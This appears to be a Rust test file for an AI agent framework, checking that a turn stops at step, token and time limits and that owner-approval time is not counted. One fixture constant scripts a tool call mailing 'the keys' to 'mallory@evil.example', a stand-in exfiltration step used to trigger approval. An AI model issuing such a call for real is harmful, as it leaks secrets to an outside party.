//! A turn at its limits: it ends in an answer, or says that there is none, and never just goes on.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test ends where its set-up fails")]

mod support;

use std::time::Duration;

use krabba_agent::{Outcome, TurnEvent};
use krabba_guard::Answer;
use krabba_store::Store;
use krabba_types::DoneReason;

use support::tools::{Journal, acting_agent};
use support::{end, listen, listen_until, messages, notices, say, server};

fn done(journal: &Journal) -> Vec<String> {
    journal.lock().unwrap().clone()
}

/// Rules in which request `n` is answered by the `n`th steps.
fn rules(answers: &[&str]) -> String {
    let rules: Vec<String> =
        (1..).zip(answers).map(|(number, steps)| format!("{{when: {{request: {number}}}, steps: [{steps}, 'end']}}")).collect();
    format!("rules: [{}]", rules.join(", "))
}

const MAIL: &str = "{tool_call: {name: 'mail', arguments: {to: 'mallory@evil.example', body: 'the keys'}}}";

#[tokio::test]
async fn limit_of_steps_ends_in_an_answer() {
    let call = |number: u32| format!("{{tool_call: {{name: 'run', arguments: {{command: 'step {number}'}}}}}}");
    let server = server(&rules(&[&call(1), &call(2), "{text: 'That is all.'}"])).await;
    let state = tempfile::tempdir().unwrap();
    let (agent, journal) = acting_agent(state.path(), &server, |hands| hands.limits.steps = 2);
    let lane = agent.new_session();
    let events = listen(lane.turn(say("go"))).await;
    assert_eq!(end(&events).text, "That is all.");
    assert_eq!(done(&journal), ["run `step 1`", "run `step 2`"]);
    assert!(notices(&events).iter().any(|line| line.contains("2 steps are done, the limit for one turn")), "{events:?}");
}

#[tokio::test]
async fn limit_of_tokens_ends_in_an_answer() {
    let call =
        |number: u32| format!("{{tool_call: {{name: 'run', arguments: {{command: 'step {number}'}}}}}}, {{usage: {{completion: 30}}}}");
    let server = server(&rules(&[&call(1), &call(2), "{text: 'That is all.'}"])).await;
    let state = tempfile::tempdir().unwrap();
    let (agent, journal) = acting_agent(state.path(), &server, |hands| hands.limits.output_tokens = Some(50));
    let events = listen(agent.new_session().turn(say("go"))).await;
    assert_eq!(end(&events).text, "That is all.");
    assert_eq!(done(&journal), ["run `step 1`", "run `step 2`"]);
    assert!(messages(&server, 2).last().unwrap().1.contains("no more tools"));
    let line = "50 tokens were written, the limit for one turn; the model is asked to answer with what it has";
    assert_eq!(notices(&events), [line]);
}

#[tokio::test]
async fn limit_of_tokens_holds_where_the_server_counts_none() {
    let thought = "the boat is called Nida and lies in the harbour, ".repeat(2);
    let uncounted = "{finish: 'tool_calls'}, 'done_marker'";
    let call = |number: u32| {
        format!("{{reasoning: '{thought}'}}, {{tool_call: {{name: 'run', arguments: {{command: 'step {number}'}}}}}}, {uncounted}")
    };
    let steps = [call(1), call(2), "{text: 'That is all.'}, {finish: 'stop'}, 'done_marker'".to_owned()];
    let rules: Vec<String> =
        (1..).zip(&steps).map(|(number, steps)| format!("{{when: {{request: {number}}}, steps: [{steps}]}}")).collect();
    let server = server(&format!("rules: [{}]", rules.join(", "))).await;
    let state = tempfile::tempdir().unwrap();
    let (agent, journal) = acting_agent(state.path(), &server, |hands| hands.limits.output_tokens = Some(50));
    let events = listen(agent.new_session().turn(say("go"))).await;
    assert_eq!((end(&events).text.as_str(), end(&events).usage.output_tokens), ("That is all.", None));
    assert_eq!(done(&journal), ["run `step 1`", "run `step 2`"]);
    assert!(notices(&events).iter().any(|line| line.starts_with("50 tokens were written, the limit for one turn")), "{events:?}");
}

#[tokio::test]
async fn limit_of_tokens_counts_what_was_given_up_too() {
    let thought = "{reasoning: 'the boat is called Nida and lies in the harbour'}, {text: 'It is called Nida'}, 'eof'";
    let call = "{tool_call: {name: 'run', arguments: {command: 'step'}}}, {usage: {completion: 1}}, 'end'";
    let rules = format!(
        "rules: [{{when: {{request: 1}}, steps: [{thought}]}}, {{when: {{request: 2}}, steps: [{call}]}}, {{steps: [{{text: 'That is all.'}}, 'end']}}]"
    );
    let server = server(&rules).await;
    let state = tempfile::tempdir().unwrap();
    let (agent, _) = acting_agent(state.path(), &server, |hands| hands.limits.output_tokens = Some(10));
    let events = listen(agent.new_session().turn(say("go"))).await;
    assert_eq!((end(&events).text.as_str(), server.generations().len()), ("That is all.", 3), "{events:?}");
    assert!(notices(&events).iter().any(|line| line.starts_with("10 tokens were written, the limit for one turn")), "{events:?}");
}

#[tokio::test]
async fn limit_of_time_ends_a_tool_and_then_in_an_answer() {
    let slow = "{tool_call: {name: 'slow', arguments: {command: 'sleep'}}}, {tool_call: {name: 'run', arguments: {command: 'more'}}}";
    let server = server(&rules(&[slow, "{text: 'That is all.'}"])).await;
    let state = tempfile::tempdir().unwrap();
    let (agent, journal) = acting_agent(state.path(), &server, |hands| hands.limits.seconds = Some(1));
    let lane = agent.new_session();
    let events = listen(lane.turn(say("go"))).await;
    assert_eq!((end(&events).text.as_str(), &end(&events).outcome), ("That is all.", &Outcome::Answered(DoneReason::Stop)));
    assert_eq!(done(&journal), ["run `sleep`"], "nothing else is begun then");
    let results: Vec<String> = messages(&server, 1).into_iter().filter(|(role, _)| role == "tool").map(|(_, text)| text).collect();
    assert_eq!(results.len(), 2);
    assert!(results[0].contains("half of it") && results[1].contains("no more tools"), "{results:?}");
    let line = "1 s are over, the limit for one turn; the model is asked to answer with what it has";
    assert_eq!(notices(&events), [line]);
    assert_eq!(Store::open(state.path()).unwrap().open_effects(lane.id()).unwrap(), []);
}

#[tokio::test]
async fn limit_of_time_cuts_an_answer_off_and_keeps_it() {
    let server = server(&rules(&["{text: 'Half of'}, 'stall'", "{text: 'next'}"])).await;
    let state = tempfile::tempdir().unwrap();
    let (agent, _) = acting_agent(state.path(), &server, |hands| hands.limits.seconds = Some(1));
    let lane = agent.new_session();
    let events = listen(lane.turn(say("go"))).await;
    assert_eq!((end(&events).text.as_str(), &end(&events).outcome), ("Half of", &Outcome::Answered(DoneReason::Length)));
    assert_eq!(notices(&events), ["1 s are over, the limit for one turn; the answer is cut off (say \"go on\")"]);
    listen(lane.turn(say("go on"))).await;
    assert_eq!(messages(&server, 1)[2].1, "Half of");
}

#[tokio::test]
async fn limit_of_time_without_an_answer_is_no_success() {
    let server = server(&rules(&["'stall'"])).await;
    let state = tempfile::tempdir().unwrap();
    let (agent, _) = acting_agent(state.path(), &server, |hands| hands.limits.seconds = Some(1));
    let events = listen(agent.new_session().turn(say("go"))).await;
    let Outcome::Failed(fault) = &end(&events).outcome else { panic!("{events:?}") };
    assert_eq!(fault.message, "1 s are over, the limit for one turn, and there is no answer yet");
    assert_eq!(end(&events).attempts.len(), 1);
}

#[tokio::test]
async fn time_in_which_the_owner_thinks_is_not_the_turns() {
    let server = server(&rules(&[MAIL, "{text: 'Sent.'}"])).await;
    let state = tempfile::tempdir().unwrap();
    let (agent, journal) = acting_agent(state.path(), &server, |hands| hands.limits.seconds = Some(2));
    let lane = agent.new_session();
    let mut handle = lane.turn(say("send it"));
    let until = listen_until(&mut handle, |event| matches!(event, TurnEvent::Asked(_))).await;
    let Some(TurnEvent::Asked(question)) = until.last() else { panic!("{until:?}") };
    tokio::time::sleep(Duration::from_millis(2_500)).await;
    lane.answer(question.id.clone(), Answer::Approve, "test").await.unwrap();
    let events = listen(handle).await;
    assert_eq!((end(&events).text.as_str(), notices(&events)), ("Sent.", Vec::new()));
    assert_eq!(done(&journal), ["mail at office"]);
}
